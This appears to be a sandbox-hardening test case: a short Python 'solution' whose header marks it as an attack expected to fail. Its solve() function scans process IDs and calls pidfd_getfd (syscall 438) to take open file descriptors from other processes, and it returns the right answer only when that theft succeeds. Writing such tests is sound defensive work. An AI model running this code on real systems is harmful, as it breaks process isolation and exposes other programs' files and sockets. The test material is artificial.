# attack: zygote_pidfd_getfd
# kind: function
# attempts: takes descriptors out of every process that it can name
# sound verdict: incorrect|runtime_error
# host must: pidfd_getfd fails
# NEVER run outside a sandbox.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def solve(xs):
    for pid in range(1, 400):
        try: fd = os.pidfd_open(pid)
        except OSError: continue
        for n in range(32):
            if libc.syscall(438, fd, n, 0) >= 0 and pid != os.getpid(): return sum(x * x for x in xs)
        os.close(fd)
    return None
